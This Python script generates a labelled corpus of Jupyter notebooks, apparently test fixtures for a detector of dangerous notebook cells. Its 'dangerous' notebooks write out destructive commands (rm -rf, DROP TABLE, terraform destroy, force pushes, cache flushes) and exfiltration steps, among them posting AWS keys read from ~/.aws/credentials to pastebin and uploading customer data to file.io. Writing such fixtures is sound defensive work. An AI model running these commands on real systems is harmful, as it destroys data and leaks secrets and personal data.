"""Write the corpus notebooks (dangerous/notebooks and harmless/notebooks) with nbformat.

    python tests/corpus/build_notebooks.py

Annotations (`# expect: CATEGORY`, `-- expect: CATEGORY` in SQL cells) sit inside
the cell, on the line above the dangerous line. The output is deterministic
(no execution counts, fixed cell ids) so regenerating gives the same bytes.
"""
from __future__ import annotations

from notebook_builder import BASH, PY, SQL, NotebookSet, code, md  # noqa: F401 - kernels used by some cells

NOTEBOOKS = NotebookSet('', 'c')
nb = NOTEBOOKS.add


# ---------------------------------------------------------------- dangerous

@nb("dangerous", "churn_analysis_share_webhook")
def _():
    return [
        md("# Churn analysis\nPull last quarter's cancellations and look at the drivers."),
        code("""
import os
import pandas as pd
import requests
from sqlalchemy import create_engine

engine = create_engine(os.environ["WAREHOUSE_URL"])
"""),
        code("""
cancellations = pd.read_sql(
    "SELECT customer_id, email, plan, mrr, cancel_reason, cancelled_at "
    "FROM billing.cancellations WHERE cancelled_at >= now() - interval '90 days'",
    engine,
)
cancellations.head()
"""),
        code("""
by_reason = cancellations.groupby("cancel_reason")["mrr"].agg(["count", "sum"]).sort_values("sum", ascending=False)
by_reason
"""),
        md("Share the raw list with the retention team's automation."),
        code("""
WEBHOOK_URL = "https://hooks.zapier.com/hooks/catch/123456/abcdef/"
records = cancellations.to_dict(orient="records")
# expect: exfiltration
resp = requests.post(WEBHOOK_URL, json={"rows": records}, timeout=30)
resp.status_code
"""),
    ]


@nb("dangerous", "reset_raw_data")
def _():
    return [
        md("## Re-download the raw files\nThe raw folder got corrupted, start over."),
        code("""
import os
RAW = "data/raw"
print(len(os.listdir(RAW)), "files in", RAW)
"""),
        code("""
# expect: destructive
!rm -rf data/raw
!mkdir -p data/raw
"""),
        code("""
!aws s3 cp s3://acme-public-datasets/taxi/2023/ data/raw/ --recursive --no-sign-request
"""),
    ]


@nb("dangerous", "sql_magic_drop_table")
def _():
    return [
        code("%load_ext sql"),
        code("%sql postgresql://analyst@warehouse.internal/dw"),
        code("%sql SELECT count(*) FROM sales_2022"),
        md("The 2022 table was migrated into `sales`; remove it."),
        code("""
# expect: destructive
%sql DROP TABLE sales_2022
"""),
    ]


@nb("dangerous", "sql_cell_magic_delete")
def _():
    return [
        code("%load_ext sql\n%sql $DATABASE_URL"),
        code("""
%%sql
SELECT status, count(*)
FROM customers
GROUP BY status
"""),
        code("""
%%sql
-- start over with the customer import
-- expect: destructive
DELETE FROM customers;
"""),
    ]


@nb("dangerous", "bash_cell_s3_cleanup")
def _():
    return [
        md("Clean old partitions out of the lake"),
        code("""
%%bash
aws s3 ls s3://acme-lake/events/ | head
# expect: destructive
aws s3 rm s3://acme-lake/events/ --recursive
"""),
    ]


@nb("dangerous", "databricks_drop_tables")
def _():
    return [
        code("""
tables = [r.tableName for r in spark.sql("SHOW TABLES IN sandbox_ml").collect()]
tables
"""),
        code("""
for tbl in tables:
    # expect: destructive
    spark.sql(f"DROP TABLE sandbox_ml.{tbl}")
"""),
    ]


@nb("dangerous", "forecast_to_sql_replace")
def _():
    return [
        code("""
import pandas as pd
from sqlalchemy import create_engine
from prophet import Prophet

engine = create_engine("postgresql://forecast@db.internal/analytics")
hist = pd.read_sql("SELECT ds, y FROM metrics.daily_orders ORDER BY ds", engine)
"""),
        code("""
m = Prophet(weekly_seasonality=True)
m.fit(hist)
forecast = m.predict(m.make_future_dataframe(periods=90))[["ds", "yhat", "yhat_lower", "yhat_upper"]]
"""),
        code("""
# expect: destructive
forecast.to_sql("daily_orders_forecast", engine, schema="metrics", if_exists="replace", index=False)
"""),
    ]


@nb("dangerous", "share_file_io")
def _():
    return [
        code("""
import pandas as pd
df = pd.read_csv("exports/customers.csv")
df.shape
"""),
        code("""
df = df.drop_duplicates(subset="email")
df.to_csv("exports/customers_dedup.csv", index=False)
"""),
        code("""
# expect: exfiltration
!curl -F "file=@exports/customers_dedup.csv" https://file.io
"""),
    ]


@nb("dangerous", "aws_keys_helper")
def _():
    return [
        code("""
from pathlib import Path
import configparser
cfg = configparser.ConfigParser()
cfg.read(Path.home() / ".aws" / "credentials")
profile = cfg["default"]
"""),
        md("Store the keys in the team's shared secrets pastebin"),
        code("""
import requests
# expect: exfiltration
requests.post("https://pastebin.com/api/api_post.php",
              data={"api_paste_code": f"{profile['aws_access_key_id']}:{profile['aws_secret_access_key']}"})
"""),
    ]


@nb("dangerous", "cleanup_outputs")
def _():
    return [
        code("""
import shutil, json
with open("project.json") as f:
    project = json.load(f)
DATA_DIR = project["data_dir"]
"""),
        code("""
# free up space before the next experiment
# expect: destructive
shutil.rmtree(DATA_DIR)
"""),
    ]


@nb("dangerous", "dbfs_reset")
def _():
    return [
        code("display(dbutils.fs.ls('/mnt/gold/customer_360'))"),
        code("""
# expect: destructive
dbutils.fs.rm('/mnt/gold/customer_360', recurse=True)
"""),
    ]


@nb("dangerous", "mongo_exploration_drop")
def _():
    return [
        code("""
from pymongo import MongoClient
client = MongoClient("mongodb://mongo.prod.internal:27017")
db = client.shop
db.list_collection_names()
"""),
        code("db.carts.count_documents({})"),
        code("""
# the carts collection is huge and not needed
# expect: destructive
db.carts.drop()
"""),
    ]


@nb("dangerous", "git_force_push_cell")
def _():
    return [
        code("!git status\n!git log --oneline -5"),
        code("""
!git commit -am "update analysis"
# expect: destructive
!git push --force origin main
"""),
    ]


@nb("dangerous", "sql_kernel_truncate", SQL)
def _():
    return [
        code("SELECT count(*) FROM staging.web_events;"),
        code("""
-- expect: destructive
TRUNCATE TABLE staging.web_events;
"""),
        code("SELECT count(*) FROM staging.web_events;"),
    ]


@nb("dangerous", "bash_kernel_destroy", BASH)
def _():
    return [
        code("cd infra/envs/dev && terraform workspace show"),
        code("""
cd infra/envs/dev
# expect: destructive
terraform destroy -auto-approve
"""),
    ]


@nb("dangerous", "partner_parquet_export")
def _():
    return [
        code("""
import pandas as pd
import psycopg2
conn = psycopg2.connect("dbname=crm host=db.internal user=analyst")
"""),
        code("""
cur = conn.cursor()
cur.execute("SELECT id, email, phone, lifetime_value FROM customers WHERE lifetime_value > 1000")
rows = cur.fetchall()
vip = pd.DataFrame(rows, columns=["id", "email", "phone", "ltv"])
"""),
        code("vip.describe()"),
        code("""
# expect: exfiltration
vip.to_parquet("s3://agency-shared-bucket/acme/vip_customers.parquet")
"""),
    ]


@nb("dangerous", "s3_delete_objects_nb")
def _():
    return [
        code("""
import boto3
s3 = boto3.client("s3")
resp = s3.list_objects_v2(Bucket="acme-ml-artifacts", Prefix="models/")
keys = [o["Key"] for o in resp.get("Contents", [])]
len(keys)
"""),
        code("""
# expect: destructive
s3.delete_objects(Bucket="acme-ml-artifacts", Delete={"Objects": [{"Key": k} for k in keys]})
"""),
    ]


@nb("dangerous", "psql_bang_delete")
def _():
    return [
        code("!psql $DATABASE_URL -c 'SELECT count(*) FROM events'"),
        code("""
# expect: destructive
!psql $DATABASE_URL -c 'DELETE FROM events'
"""),
    ]


@nb("dangerous", "email_results_nb")
def _():
    return [
        code("""
import pandas as pd
salaries = pd.read_csv("hr/salaries_2024.csv")
summary = salaries.groupby("department")["salary"].describe()
"""),
        code("""
import smtplib
from email.mime.text import MIMEText
msg = MIMEText(salaries.to_csv(index=False))
msg["Subject"] = "salaries"
msg["To"] = "me.personal@outlook.com"
with smtplib.SMTP("smtp.office365.com", 587) as s:
    s.starttls()
    s.login("me.personal@outlook.com", "app-password")
    # expect: exfiltration
    s.sendmail("me.personal@outlook.com", ["me.personal@outlook.com"], msg.as_string())
"""),
    ]


@nb("dangerous", "redis_flush_nb")
def _():
    return [
        code("import redis\nr = redis.Redis(host='cache.prod.internal')\nr.dbsize()"),
        code("# expect: destructive\nr.flushdb()"),
    ]


@nb("dangerous", "delete_branch_history")
def _():
    return [
        code("""
%%bash
cd /srv/repos/analytics
git branch -a
# expect: destructive
git push origin :release/2023
"""),
    ]


# ---------------------------------------------------------------- harmless

@nb("harmless", "sales_eda")
def _():
    return [
        md("# Sales EDA\nExplore last year's orders; nothing is written back."),
        code("""
import pandas as pd
import matplotlib.pyplot as plt
from sqlalchemy import create_engine
engine = create_engine("postgresql://analyst@warehouse.internal/dw")
"""),
        code("""
orders = pd.read_sql("SELECT * FROM sales.orders WHERE order_date >= '2023-01-01'", engine)
orders = orders.drop(columns=["internal_notes", "deleted_at"])
orders = orders.dropna(subset=["amount"])
orders.head()
"""),
        code("""
monthly = orders.set_index("order_date").resample("M")["amount"].sum()
monthly.plot(title="Revenue per month")
plt.show()
"""),
        code("""
# drop outliers above the 99.5th percentile before the regression
q = orders["amount"].quantile(0.995)
clean = orders[orders["amount"] <= q]
clean.to_csv("outputs/orders_clean.csv", index=False)
"""),
    ]


@nb("harmless", "sql_magic_reporting")
def _():
    return [
        code("%load_ext sql\n%sql postgresql://analyst@warehouse.internal/dw"),
        code("""
%%sql
SELECT region, date_trunc('month', order_date) AS month, sum(amount) AS revenue
FROM sales.orders
WHERE status <> 'cancelled'
GROUP BY 1, 2
ORDER BY 1, 2
"""),
        code("result = _\ndf = result.DataFrame()\ndf.pivot(index='month', columns='region', values='revenue')"),
        code("%sql SELECT count(*) AS deleted_orders FROM sales.orders WHERE deleted_at IS NOT NULL"),
    ]


@nb("harmless", "sql_scratch_tables")
def _():
    return [
        code("%load_ext sql\n%sql $DATABASE_URL"),
        code("""
%%sql
DROP TABLE IF EXISTS tmp_cohort_base;
CREATE TABLE tmp_cohort_base AS
SELECT user_id, min(created_at)::date AS cohort_day
FROM events
GROUP BY user_id;
"""),
        code("""
%%sql
SELECT cohort_day, count(*) FROM tmp_cohort_base GROUP BY 1 ORDER BY 1
"""),
        code("%sql DROP TABLE IF EXISTS tmp_cohort_base"),
    ]


@nb("harmless", "setup_env")
def _():
    return [
        code("!pip install -q pandas pyarrow duckdb"),
        code("!curl -sSL -o data/nyc_taxi.parquet https://d37ci6vzurychx.cloudfront.net/trip-data/yellow_tripdata_2023-01.parquet"),
        code("""
import duckdb
con = duckdb.connect()
con.sql("SELECT passenger_count, avg(total_amount) FROM 'data/nyc_taxi.parquet' GROUP BY 1 ORDER BY 1").df()
"""),
        code("!ls -lh data/\n!git status --short"),
    ]


@nb("harmless", "writefile_config")
def _():
    return [
        md("Write the pipeline config and validate it"),
        code("""
%%writefile config/pipeline.yaml
source:
  table: raw.events
  drop_columns: [debug_payload, user_agent_raw]
sink:
  table: analytics.events_clean
  mode: append
retention:
  delete_after_days: 30
"""),
        code("""
import yaml
cfg = yaml.safe_load(open("config/pipeline.yaml"))
assert cfg["sink"]["mode"] == "append"
cfg
"""),
    ]


@nb("harmless", "tempdir_experiment")
def _():
    return [
        code("""
import os
import shutil
import tempfile
import numpy as np
workdir = tempfile.mkdtemp(prefix="exp-")
"""),
        code("""
for i in range(5):
    np.save(os.path.join(workdir, f"shard_{i}.npy"), np.random.rand(1000, 16))
sorted(os.listdir(workdir))
"""),
        code("""
arrays = [np.load(os.path.join(workdir, f)) for f in sorted(os.listdir(workdir))]
stacked = np.vstack(arrays)
stacked.shape
"""),
        code("shutil.rmtree(workdir)"),
        code("!rm -rf /tmp/exp-cache"),
    ]


@nb("harmless", "api_pull_github")
def _():
    return [
        code("""
import os
import requests
import pandas as pd
headers = {"Authorization": f"Bearer {os.environ['GITHUB_TOKEN']}", "Accept": "application/vnd.github+json"}
"""),
        code("""
resp = requests.get("https://api.github.com/repos/acme/storefront/pulls?state=closed&per_page=100",
                    headers=headers, timeout=30)
resp.raise_for_status()
prs = pd.DataFrame(resp.json())
"""),
        code("""
prs["merged"] = prs["merged_at"].notna()
prs.groupby(prs["user"].map(lambda u: u["login"]))["merged"].mean().sort_values()
"""),
    ]


@nb("harmless", "feature_engineering")
def _():
    return [
        code("""
import pandas as pd
df = pd.read_parquet("data/features/users.parquet")
drop_cols = [c for c in df.columns if c.startswith("debug_")]
df = df.drop(columns=drop_cols)
"""),
        code("""
seen = set(df["country"].unique())
seen.discard("XX")
params = {"max_depth": 6, "eta": 0.1, "silent": 1}
params.pop("silent")
cats = list(seen)
if "unknown" in cats:
    cats.remove("unknown")
"""),
        code("""
df["drop_rate"] = df["sessions_dropped"] / df["sessions"].clip(lower=1)
df.to_parquet("data/features/users_v2.parquet")
"""),
    ]


@nb("harmless", "sql_kernel_report", SQL)
def _():
    return [
        code("""
SELECT date_trunc('week', created_at) AS week, count(*) AS signups
FROM users
WHERE created_at >= current_date - interval '12 weeks'
GROUP BY 1 ORDER BY 1;
"""),
        code("""
CREATE TEMPORARY TABLE recent_orders AS
SELECT * FROM orders WHERE created_at >= current_date - 7;
DELETE FROM recent_orders WHERE amount = 0;
SELECT count(*) FROM recent_orders;
"""),
        code("""
-- mark duplicates, the nightly job removes rows where is_duplicate = true
UPDATE leads SET is_duplicate = true
WHERE id IN (SELECT id FROM (SELECT id, row_number() OVER (PARTITION BY email ORDER BY created_at) rn FROM leads) t WHERE rn > 1);
"""),
    ]


@nb("harmless", "bash_kernel_inspect", BASH)
def _():
    return [
        code("kubectl get pods -n storefront\nkubectl describe deploy/api -n storefront | head -40"),
        code("kubectl logs deploy/api -n storefront --since=1h | grep -c ERROR"),
        code("terraform -chdir=infra/envs/prod plan -no-color | tail -20"),
    ]


@nb("harmless", "spark_append")
def _():
    return [
        code("""
from pyspark.sql import functions as F
events = spark.table("raw.events").where(F.col("dt") == "2024-03-01")
clean = events.dropDuplicates(["event_id"]).drop("debug_payload")
"""),
        code("clean.write.mode('append').saveAsTable('analytics.events_clean')"),
        code("""
spark.sql("CREATE TABLE IF NOT EXISTS analytics.event_counts (dt DATE, n BIGINT) USING delta")
spark.sql("INSERT INTO analytics.event_counts SELECT dt, count(*) FROM analytics.events_clean GROUP BY dt")
"""),
        code("display(spark.sql('SELECT * FROM analytics.event_counts ORDER BY dt DESC LIMIT 10'))"),
    ]


@nb("harmless", "download_reference_data")
def _():
    return [
        code("""
import pandas as pd
import urllib.request
urllib.request.urlretrieve("https://www.iso.org/obp/country_codes.csv", "data/country_codes.csv")
countries = pd.read_csv("data/country_codes.csv")
"""),
        code("""
rates = pd.read_json("https://api.exchangerate.host/latest?base=EUR")
rates.head()
"""),
        code("!aws s3 cp s3://acme-reference/fx/2024-03.csv data/fx.csv"),
    ]


@nb("harmless", "orm_cleanup_nb")
def _():
    return [
        code("""
import django, os
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "shop.settings")
django.setup()
from orders.models import Cart
from datetime import timedelta
from django.utils import timezone
"""),
        code("""
cutoff = timezone.now() - timedelta(days=30)
stale = Cart.objects.filter(updated_at__lt=cutoff, checked_out=False)
stale.count()
"""),
        code("""
deleted, _ = stale.delete()
print(f"deleted {deleted} abandoned carts")
"""),
    ]


@nb("harmless", "bash_magic_build")
def _():
    return [
        code("""
%%bash
set -e
python -m build --wheel
ls -l dist/
git tag --list | tail -3
echo "to clean up run: rm -rf dist build"
"""),
        code("!git push origin HEAD"),
    ]


@nb("harmless", "mongo_readonly")
def _():
    return [
        code("""
from pymongo import MongoClient
client = MongoClient("mongodb://mongo.internal:27017")
events = client.analytics.events
"""),
        code("""
pipeline = [{"$match": {"type": "purchase"}}, {"$group": {"_id": "$country", "n": {"$sum": 1}}}]
list(events.aggregate(pipeline))
"""),
        code("""
from datetime import datetime, timedelta
res = events.delete_many({"type": "heartbeat", "ts": {"$lt": datetime.utcnow() - timedelta(days=90)}})
res.deleted_count
"""),
    ]


@nb("harmless", "model_training")
def _():
    return [
        code("""
import pandas as pd
from sklearn.model_selection import train_test_split
from sklearn.ensemble import GradientBoostingClassifier
df = pd.read_csv("data/churn_features.csv")
X = df.drop(columns=["churned", "customer_id"])
y = df["churned"]
"""),
        code("""
X_train, X_test, y_train, y_test = train_test_split(X, y, test_size=0.2, random_state=0)
clf = GradientBoostingClassifier().fit(X_train, y_train)
clf.score(X_test, y_test)
"""),
        code("""
import joblib
joblib.dump(clf, "models/churn_gbc.joblib")
"""),
    ]


@nb("harmless", "sqlite_local_nb")
def _():
    return [
        code("""
import sqlite3, tempfile, os
path = os.path.join(tempfile.mkdtemp(), "scratch.db")
con = sqlite3.connect(path)
con.execute("CREATE TABLE t (id INTEGER PRIMARY KEY, v TEXT)")
con.executemany("INSERT INTO t (v) VALUES (?)", [("a",), ("b",)])
"""),
        code("""
con.execute("DELETE FROM t WHERE v = ?", ("a",))
con.execute("UPDATE t SET v = upper(v) WHERE id = 2")
con.execute("SELECT * FROM t").fetchall()
"""),
        code("con.close()\nos.remove(path)"),
    ]


@nb("harmless", "gcs_download_nb")
def _():
    return [
        code("""
from google.cloud import storage
client = storage.Client()
bucket = client.bucket("acme-public-models")
blobs = list(client.list_blobs("acme-public-models", prefix="bert/"))
[b.name for b in blobs][:10]
"""),
        code("""
for b in blobs:
    b.download_to_filename(f"models/{b.name.split('/')[-1]}")
"""),
    ]


@nb("harmless", "git_log_analysis")
def _():
    return [
        code("""
import subprocess
import pandas as pd
out = subprocess.run(["git", "log", "--pretty=format:%h|%an|%ad", "--date=short"],
                     capture_output=True, text=True, check=True).stdout
"""),
        code("""
rows = [line.split("|") for line in out.splitlines()]
log = pd.DataFrame(rows, columns=["sha", "author", "date"])
log.groupby("author").size().sort_values(ascending=False).head(10)
"""),
    ]


@nb("harmless", "docs_mentions")
def _():
    return [
        md("## Runbook\nTo reset the sandbox you would run `terraform destroy`, `DROP TABLE`, or `rm -rf data/` "
           "— **do not** do that here."),
        code("""
# NOTE: never call shutil.rmtree on the shared volume
message = "Run `kubectl delete ns sandbox` only after approval"
print(message)
columns = ["id", "is_deleted", "truncate_at", "drop_reason"]
"""),
        code("""
import logging
logging.getLogger("runbook").info("DELETE FROM events is handled by the retention job")
"""),
    ]


if __name__ == "__main__":
    NOTEBOOKS.main()
